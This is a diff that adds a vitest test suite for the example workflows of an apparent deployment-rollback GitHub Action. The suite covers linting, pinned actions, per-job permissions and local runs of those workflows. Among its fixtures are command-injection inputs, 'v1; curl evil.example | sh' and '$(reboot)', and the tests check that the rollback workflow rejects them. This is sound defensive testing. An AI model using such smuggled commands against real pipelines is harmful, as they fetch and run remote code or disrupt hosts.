@@ -1,0 +1,386 @@
+import { execFileSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse, stringify } from 'yaml';
+import { ROOT, actionYmlPath, readActionYml } from '../support/action-yml.js';
+import { tempDir, type TempDir } from '../support/tmp.js';
+import {
+  checkout,
+  findJob,
+  formatTimeline,
+  jobResults,
+  lintWorkflow,
+  lintWorkflowFile,
+  loadWorkflow,
+  noop,
+  parseUses,
+  runWorkflow,
+  type Emulation,
+} from '../support/workflow/index.js';
+
+const DIR = join(ROOT, 'examples', 'workflows');
+const FILES = ['ci-cd.yml', 'rollback.yml', 'health-monitor.yml'] as const;
+const GREENLINE_SHA = '8d995e49e0a6a81c749ec7b38ed6fca9bc8f0696';
+
+interface Step {
+  id?: string;
+  name?: string;
+  if?: string;
+  uses?: string;
+  run?: string;
+  with?: Record<string, unknown>;
+  env?: Record<string, unknown>;
+}
+interface Job {
+  needs?: string | string[];
+  if?: string;
+  permissions?: Record<string, string>;
+  concurrency?: { group: string; 'cancel-in-progress': boolean };
+  outputs?: Record<string, string>;
+  steps: Step[];
+}
+interface Workflow {
+  on: Record<string, unknown>;
+  permissions?: unknown;
+  env?: Record<string, string>;
+  defaults?: unknown;
+  jobs: Record<string, Job>;
+}
+
+const text = (f: string) => readFileSync(join(DIR, f), 'utf8');
+const load = (f: string) => parse(text(f)) as Workflow;
+const needsOf = (job: Job) => (job.needs === undefined ? [] : [job.needs].flat());
+
+/** Emulations for every third-party action the examples use; the build must never run in these tests. */
+function emulations(remote: string): Record<string, Emulation> {
+  return {
+    'actions/checkout': checkout({ remote }),
+    'docker/setup-qemu-action': noop(),
+    'docker/setup-buildx-action': noop(),
+    'docker/login-action': noop(),
+    'docker/build-push-action': () => {
+      throw new Error('no build in this test');
+    },
+  };
+}
+
+describe('example workflows: actionlint', () => {
+  it.each(FILES)('%s is linted clean', async (f) => {
+    expect(await lintWorkflowFile(join(DIR, f))).toEqual([]);
+  });
+
+  it('the lint is real: broken copies of the examples are caught', async () => {
+    const ci = text('ci-cd.yml');
+    const unknownContext = ci.replace('expected-digest: ${{ needs.build.outputs.digest }}', 'expected-digest: ${{ build.outputs.digest }}');
+    expect(unknownContext).not.toBe(ci);
+    const findings = await lintWorkflow(unknownContext, 'ci-cd.yml');
+    expect(findings.map((f) => f.message).join('\n')).toMatch(/undefined variable "build"/);
+
+    const secretsInIf = ci.replace("if: failure() && github.ref == 'refs/heads/main'", "if: failure() && secrets.GITHUB_TOKEN != ''");
+    expect((await lintWorkflow(secretsInIf, 'ci-cd.yml')).map((f) => f.message).join('\n')).toMatch(/context "secrets" is not allowed here/);
+
+    const badPermission = text('health-monitor.yml').replace('issues: write # the incident issue', 'issues: admin');
+    expect((await lintWorkflow(badPermission, 'health-monitor.yml')).map((f) => f.message).join('\n')).toMatch(/"admin" is invalid for permission/);
+
+    const typo = text('rollback.yml').replace('timeout-minutes: 5\n    permissions: {}', 'timeout-minute: 5\n    permissions: {}');
+    expect((await lintWorkflow(typo, 'rollback.yml')).map((f) => f.message).join('\n')).toMatch(/unexpected key "timeout-minute"/);
+  });
+});
+
+describe('example workflows: structure', () => {
+  it.each(FILES)('%s pins every action to a full commit SHA with a version comment', (f) => {
+    const uses = [...text(f).matchAll(/^\s*(?:-\s+)?uses:\s*(\S+)(.*)$/gm)];
+    expect(uses.length).toBeGreaterThan(0);
+    for (const [, ref, rest] of uses) {
+      expect(ref, `${f}: ${ref}`).toMatch(/@[0-9a-f]{40}$/);
+      expect(rest, `${f}: ${ref} needs a # vX comment`).toMatch(/^ # v\d+(\.\d+)*$/);
+      const { repo, ref: sha } = parseUses(ref!);
+      if (repo === 'greenline') {
+        expect(sha).toBe(GREENLINE_SHA);
+        expect(rest).toBe(' # v1');
+      }
+    }
+  });
+
+  it.each(FILES)('%s grants nothing at the top and least privilege per job', (f) => {
+    const wf = load(f);
+    expect(wf.permissions).toEqual({});
+    const expected: Record<string, Record<string, Record<string, string>>> = {
+      'ci-cd.yml': {
+        test: { contents: 'read' },
+        build: { contents: 'read', packages: 'write' },
+        promote: { contents: 'write', packages: 'write', issues: 'write' },
+        rollback: { contents: 'write', checks: 'read', issues: 'write', 'pull-requests': 'write' },
+      },
+      'rollback.yml': {
+        plan: {},
+        resolve: { contents: 'read', packages: 'read' },
+        main: { contents: 'write', 'pull-requests': 'write' },
+        stable: { contents: 'write', packages: 'write' },
+        record: { issues: 'write' },
+      },
+      'health-monitor.yml': {
+        gate: { contents: 'read' },
+        rollback: { contents: 'write', packages: 'write', issues: 'write', 'pull-requests': 'write' },
+        resolve: { issues: 'write' },
+      },
+    };
+    expect(Object.fromEntries(Object.entries(wf.jobs).map(([id, j]) => [id, j.permissions]))).toEqual(expected[f]);
+  });
+
+  it.each(FILES)('%s: every needs.<job>.outputs.<name> is a direct need that declares that output', (f) => {
+    const wf = load(f);
+    for (const [id, job] of Object.entries(wf.jobs)) {
+      for (const [, need, output] of JSON.stringify(job).matchAll(/needs\.([\w-]+)\.outputs\.([\w-]+)/g)) {
+        expect(needsOf(job), `${f}: jobs.${id} uses needs.${need}`).toContain(need);
+        expect(Object.keys(wf.jobs[need!]!.outputs ?? {}), `${f}: jobs.${need} has no output ${output}`).toContain(output);
+      }
+    }
+  });
+
+  it('ci-cd.yml: test, build the SHA-tagged candidate, promote its digest on main, roll back main on failure', () => {
+    const wf = load('ci-cd.yml');
+    expect(wf.on).toEqual({ push: { branches: ['main'] }, pull_request: { branches: ['main'] } });
+    const { test, build, promote, rollback } = wf.jobs;
+    expect(test!.steps.at(-1)!.run).toBe('./script/test');
+    expect(build!.if).toBe("github.event_name == 'push'");
+    expect(build!.outputs).toEqual({ digest: '${{ steps.candidate.outputs.digest }}' });
+    const push = build!.steps.find((s) => s.id === 'candidate')!;
+    expect(push.uses).toMatch(/^docker\/build-push-action@/);
+    expect(push.with).toMatchObject({ push: true, tags: '${{ env.IMAGE }}:${{ github.sha }}', platforms: 'linux/amd64,linux/arm64' });
+    expect(needsOf(promote!)).toEqual(['test', 'build']);
+    expect(promote!.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
+    const promoteStep = promote!.steps.find((s) => s.id === 'promote')!;
+    expect(promoteStep.uses).toBe(`owner/greenline/actions/promote-to-stable@${GREENLINE_SHA}`);
+    expect(promoteStep.with).toEqual({ image: '${{ env.IMAGE }}', source: '${{ github.sha }}', 'expected-digest': '${{ needs.build.outputs.digest }}' });
+    expect(rollback!.if).toBe("failure() && github.ref == 'refs/heads/main'");
+    expect(rollback!.steps.map((s) => s.uses)).toEqual([`owner/greenline@${GREENLINE_SHA}`]);
+    for (const job of [promote!, rollback!]) expect(job.concurrency?.['cancel-in-progress']).toBe(false);
+    expect(promote!.concurrency!.group).toBe('greenline-stable-${{ github.ref }}');
+    expect(rollback!.concurrency!.group).toBe('greenline-main-${{ github.ref }}');
+    // The incident the rollback opens is the one the next promotion resolves.
+    expect(rollback!.steps[0]!.with!.fingerprint).toBe(promote!.steps[1]!.with!.fingerprint);
+  });
+
+  it('rollback.yml: dispatch inputs what/to/reason; resolve (dry run) → main (auto-revert) → :stable (promote-to-stable) → record', () => {
+    const wf = load('rollback.yml');
+    const inputs = (wf.on.workflow_dispatch as { inputs: Record<string, { type: string; options?: string[]; required?: boolean }> }).inputs;
+    expect(Object.keys(inputs)).toEqual(['what', 'to', 'reason']);
+    expect(inputs.what).toMatchObject({ type: 'choice', options: ['image', 'main', 'both'] });
+    expect(inputs.reason!.required).toBe(true);
+    const { resolve, main, stable, record } = wf.jobs;
+    expect(resolve!.steps[0]!.uses).toMatch(/\/actions\/promote-to-stable@/);
+    expect(resolve!.steps[0]!.with).toMatchObject({ 'dry-run': true, source: '${{ needs.plan.outputs.source }}' });
+    expect(main!.steps[0]!.uses).toMatch(/\/actions\/auto-revert@/);
+    expect(main!.steps[0]!.with!['target-sha']).toBe('${{ needs.plan.outputs.sha || needs.resolve.outputs.commit }}');
+    // main moves before :stable: promote-to-stable's ledger commit would otherwise move main under auto-revert.
+    expect(needsOf(stable!)).toContain('main');
+    expect(stable!.steps[0]!.uses).toMatch(/\/actions\/promote-to-stable@/);
+    expect(stable!.steps[0]!.with).toMatchObject({ source: '${{ needs.resolve.outputs.digest }}', 'expected-digest': '${{ needs.resolve.outputs.digest }}' });
+    expect(stable!.steps[0]!.with!['dry-run']).toBeUndefined();
+    expect(record!.steps.at(-1)!.uses).toMatch(/\/actions\/open-incident-issue@/);
+    // Inputs reach the shell only through env:, never spliced into a script.
+    for (const job of Object.values(wf.jobs)) for (const step of job.steps) expect(step.run ?? '').not.toMatch(/\$\{\{/);
+    expect(wf.env!.INCIDENT).toBe(load('ci-cd.yml').env!.INCIDENT);
+  });
+
+  it('health-monitor.yml: every 5 minutes, gate → restore ledger:previous, mark ⛔, incident; healthy → resolve the same incident', () => {
+    const wf = load('health-monitor.yml');
+    expect(wf.on).toEqual({ schedule: [{ cron: '*/5 * * * *' }], workflow_dispatch: null });
+    const { gate, rollback, resolve } = wf.jobs;
+    expect(gate!.steps[0]!.uses).toMatch(/\/actions\/health-gate@/);
+    expect(rollback!.if).toBe("needs.gate.outputs.rollback == 'true'");
+    expect(resolve!.if).toBe("needs.gate.outputs.healthy == 'true'");
+    expect(rollback!.steps.map((s) => s.id)).toEqual(['mark', 'restore', 'details', undefined]);
+    const mark = rollback!.steps[0]!;
+    expect(mark.uses).toMatch(/\/actions\/auto-revert@/);
+    expect(mark.if).toBe("needs.gate.outputs.stable-status == 'passed' && needs.gate.outputs.head-is-stable == 'true'");
+    expect(mark.with!['failing-sha']).toBeUndefined();
+    const restore = rollback!.steps[1]!;
+    expect(restore.with).toMatchObject({ source: 'ledger:previous' });
+    expect(restore.if).toBe("${{ !cancelled() && needs.gate.outputs.stable-status == 'passed' }}");
+    const incident = rollback!.steps.at(-1)!;
+    expect(incident.with).toMatchObject({ kind: 'health', 'health-report': '${{ needs.gate.outputs.report }}' });
+    expect(incident.with!.fingerprint).toBe(resolve!.steps[0]!.with!.fingerprint);
+    expect(resolve!.steps[0]!.with!.mode).toBe('resolve');
+    for (const job of Object.values(wf.jobs)) for (const step of job.steps) expect(step.run ?? '').not.toMatch(/\$\{\{/);
+  });
+});
+
+/** Every greenline step of the examples, with the action it runs (rollback = the root action.yml). */
+const greenlineSteps = FILES.flatMap((f) =>
+  Object.entries(load(f).jobs).flatMap(([jobId, job]) =>
+    job.steps
+      .filter((s) => s.uses && parseUses(s.uses).repo === 'greenline')
+      .map((s) => {
+        const { path } = parseUses(s.uses!);
+        return { f, jobId, step: s, action: path === '' ? 'rollback' : path.replace(/^actions\//, '') };
+      }),
+  ),
+);
+
+describe('example workflows: greenline steps match the actions’ metadata', () => {
+  const actions = [...new Set(greenlineSteps.map((g) => g.action))].sort();
+  it('use the five actions and the one-step rollback', () => {
+    expect(actions).toEqual(['auto-revert', 'health-gate', 'open-incident-issue', 'promote-to-stable', 'rollback']);
+  });
+  // Checked as soon as each action.yml exists (the actions are written in parallel with the examples).
+  it.each(actions)('with: names only inputs %s declares, and steps.<id>.outputs.<name> only its outputs', (action) => {
+    if (!existsSync(actionYmlPath(action))) {
+      console.warn(`example-workflows: ${action} has no action.yml yet; its inputs and outputs are not checked`);
+      return;
+    }
+    const meta = readActionYml(action);
+    for (const { f, jobId, step } of greenlineSteps.filter((g) => g.action === action)) {
+      for (const key of Object.keys(step.with ?? {})) expect(Object.keys(meta.inputs ?? {}), `${f} jobs.${jobId}: input ${key}`).toContain(key);
+      if (!step.id) continue;
+      const wf = text(f);
+      for (const [, output] of wf.matchAll(new RegExp(`steps\\.${step.id}\\.outputs\\.([\\w-]+)`, 'g'))) {
+        expect(Object.keys(meta.outputs ?? {}), `${f}: steps.${step.id}.outputs.${output}`).toContain(output);
+      }
+    }
+  });
+});
+
+describe('example workflows: the local executor', () => {
+  let tmp: TempDir;
+  let remote: string;
+  const commits: Record<'pass' | 'fail', string> = { pass: '', fail: '' };
+
+  beforeAll(async () => {
+    tmp = await tempDir('greenline-examples-');
+    remote = join(tmp.path, 'app.git');
+    const src = join(tmp.path, 'src');
+    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=dev', '-c', 'user.email=dev@example.com', ...args], { cwd: src, encoding: 'utf8' }).trim();
+    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', remote]);
+    mkdirSync(join(src, 'script'), { recursive: true });
+    execFileSync('git', ['init', '-q', '-b', 'main', src]);
+    writeFileSync(join(src, 'script', 'test'), '#!/usr/bin/env bash\nset -e\necho "running tests"\n[ "$(cat verdict)" = pass ]\n');
+    chmodSync(join(src, 'script', 'test'), 0o755);
+    writeFileSync(join(src, 'verdict'), 'pass\n');
+    git('add', '.');
+    git('commit', '-q', '-m', 'good');
+    commits.pass = git('rev-parse', 'HEAD');
+    writeFileSync(join(src, 'verdict'), 'fail\n');
+    git('commit', '-q', '-am', 'bad');
+    commits.fail = git('rev-parse', 'HEAD');
+    git('push', '-q', remote, 'main');
+  });
+  afterAll(async () => {
+    await tmp.cleanup();
+  });
+
+  it.each(FILES)('%s passes the executor’s checks (syntax, expressions in their contexts, uses resolvable)', (f) => {
+    const loaded = loadWorkflow({ file: join(DIR, f), emulations: emulations(remote), greenlineRef: GREENLINE_SHA, workflowEnv: { IMAGE: '127.0.0.1:5000/owner/app' } });
+    expect(loaded.order.length).toBe(Object.keys(load(f).jobs).length);
+  });
+
+  it.each(['pass', 'fail'] as const)('ci-cd.yml on a pull request whose tests %s: only the test job runs', async (verdict) => {
+    const sha = commits[verdict];
+    const trace = await runWorkflow({
+      file: join(DIR, 'ci-cd.yml'),
+      event: 'pull_request',
+      payload: { action: 'synchronize', number: 5, pull_request: { number: 5, head: { sha, ref: 'feature' }, base: { ref: 'main' } } },
+      workspaceRoot: join(tmp.path, 'ws'),
+      emulations: emulations(remote),
+      greenlineRef: GREENLINE_SHA,
+    });
+    expect(jobResults(trace), formatTimeline(trace, { logs: true })).toEqual({ test: verdict === 'pass' ? 'success' : 'failure', build: 'skipped', promote: 'skipped', rollback: 'skipped' });
+    expect(trace.concurrency).toEqual({ group: 'ci-cd-refs/pull/5/merge', cancelInProgress: true });
+    expect(findJob(trace, 'test').steps[1]!.stdout).toBe('running tests\n');
+    expect(findJob(trace, 'rollback').condition.value).toBe(false);
+  });
+
+  it('ci-cd.yml is not started by greenline’s own [skip ci] revert commit', async () => {
+    const trace = await runWorkflow({
+      file: join(DIR, 'ci-cd.yml'),
+      event: 'push',
+      github: { sha: commits.pass },
+      payload: { head_commit: { id: commits.pass, message: '⚠️ Auto-rollback: Tests failed, reverting to last successful build 1234567 [skip ci]' } },
+      workspaceRoot: join(tmp.path, 'ws'),
+      emulations: emulations(remote),
+    });
+    expect(trace).toMatchObject({ triggered: false, conclusion: 'skipped', jobs: [] });
+  });
+
+  /** One job of an example workflow with only some of its steps (optionally after prelude steps), as its own file. */
+  function partOf(f: string, jobId: string, stepIds: string[], prelude: Step[] = []): string {
+    const wf = load(f);
+    const job = wf.jobs[jobId]!;
+    const part = {
+      ...wf,
+      jobs: { [jobId]: { ...job, needs: undefined, steps: [...prelude, ...job.steps.filter((s) => s.id && stepIds.includes(s.id))] } },
+    };
+    const file = join(tmp.path, `${jobId}-${stepIds.join('-')}-${Math.random().toString(36).slice(2)}.yml`);
+    writeFileSync(file, stringify(JSON.parse(JSON.stringify(part))));
+    return file;
+  }
+
+  const shas = { a: 'a'.repeat(40), b: 'b'.repeat(40), c: 'c'.repeat(40) };
+  const entry = (status: string, sha: string) =>
+    `### ${status.slice(0, 1)} ${sha.slice(0, 7)} · 2024-12-22T10:15:00Z\nCommit: ${sha}\nStatus: ${status}\nImage: ghcr.io/owner/app@sha256:${sha.slice(0, 1).repeat(64)}\nTags: stable, latest\n`;
+  const ledgers: [string, string | undefined, { status: string; commit: string }][] = [
+    ['no ledger', undefined, { status: 'none', commit: '' }],
+    ['an empty ledger', '# Results\n', { status: 'none', commit: '' }],
+    ['one promoted build', `# Results\n\n${entry('✅ Tests Passed', shas.a)}`, { status: 'passed', commit: shas.a }],
+    ['two promoted builds', `${entry('✅ Tests Passed', shas.a)}\n${entry('✅ Tests Passed', shas.b)}`, { status: 'passed', commit: shas.b }],
+    [
+      'a rollback already done (⏪ then ⛔)',
+      `${entry('✅ Tests Passed', shas.a)}\n${entry('✅ Tests Passed', shas.b)}\n${entry('⏪ Restored', shas.a)}\n${entry('⛔ Rolled back', shas.b)}`,
+      { status: 'restored', commit: shas.a },
+    ],
+    [
+      'a fix promoted after the rollback',
+      `${entry('✅ Tests Passed', shas.a)}\n${entry('✅ Tests Passed', shas.b)}\n${entry('⏪ Restored', shas.a)}\n${entry('⛔ Rolled back', shas.b)}\n${entry('✅ Tests Passed', shas.c)}`,
+      { status: 'passed', commit: shas.c },
+    ],
+  ];
+  it.each(ledgers)('health-monitor.yml knows what :stable serves from the ledger: %s', async (_name, ledger, expected) => {
+    const write: Step = {
+      name: 'write the ledger fixture',
+      env: { LEDGER_TEXT: ledger ?? '' },
+      run: ledger === undefined ? 'true' : 'mkdir -p "$(dirname "$LEDGER")" && printf %s "$LEDGER_TEXT" > "$LEDGER"',
+    };
+    const trace = await runWorkflow({ file: partOf('health-monitor.yml', 'gate', ['stable'], [write]), event: 'workflow_dispatch', github: { sha: shas.c }, workspaceRoot: join(tmp.path, 'ws') });
+    const gate = findJob(trace, 'gate');
+    expect(gate.result, formatTimeline(trace, { logs: true })).toBe('success');
+    expect({ status: gate.outputs['stable-status'], commit: gate.outputs['stable-commit'] }).toEqual(expected);
+  });
+
+  const plans: [string, string, Record<string, string> | 'invalid'][] = [
+    ['image', 'previous', { kind: 'previous', source: 'ledger:previous', sha: '' }],
+    ['both', 'v1.2.0', { kind: 'version', source: 'ledger:v1.2.0', sha: '' }],
+    ['main', ` ${shas.a} `, { kind: 'sha', source: `ledger:${shas.a}`, sha: shas.a }],
+    ['main', '611b29b', { kind: 'short-sha', source: 'ledger:611b29b', sha: '' }],
+    ['image', `sha256:${'e'.repeat(64)}`, { kind: 'digest', source: `ledger:sha256:${'e'.repeat(64)}`, sha: '' }],
+    ['image', 'v1; curl evil.example | sh', 'invalid'],
+    ['image', 'sha256:short', 'invalid'],
+  ];
+  it.each(plans)('rollback.yml plans what=%s to=%j', async (what, to, expected) => {
+    const file = partOf('rollback.yml', 'plan', ['plan']);
+    const trace = await runWorkflow({ file, event: 'workflow_dispatch', inputs: { what, to, reason: 'bad deploy' }, github: { sha: shas.c }, workspaceRoot: join(tmp.path, 'ws') });
+    const plan = findJob(trace, 'plan');
+    if (expected === 'invalid') {
+      expect(plan.result).toBe('failure');
+      expect(plan.steps[0]!.annotations).toEqual([{ level: 'error', message: 'must be previous, a version, a commit sha or sha256:<64 hex>' }]);
+      return;
+    }
+    expect(plan.result, formatTimeline(trace, { logs: true })).toBe('success');
+    expect(plan.outputs).toEqual(expected);
+    expect(plan.summary).toContain(`Rolling back ${what} to ${expected.kind}`);
+  });
+
+  it('rollback.yml with an invalid `to` stops at the plan: nothing is moved or recorded', async () => {
+    const trace = await runWorkflow({
+      file: join(DIR, 'rollback.yml'),
+      event: 'workflow_dispatch',
+      inputs: { what: 'both', to: '$(reboot)', reason: 'test' },
+      github: { sha: shas.c },
+      workspaceRoot: join(tmp.path, 'ws'),
+      greenlineRef: GREENLINE_SHA,
+    });
+    expect(trace.runName).toBe('Roll back both to $(reboot)');
+    expect(jobResults(trace), formatTimeline(trace, { logs: true })).toEqual({ plan: 'failure', stable: 'skipped', main: 'skipped', record: 'skipped' });
+  });
+});
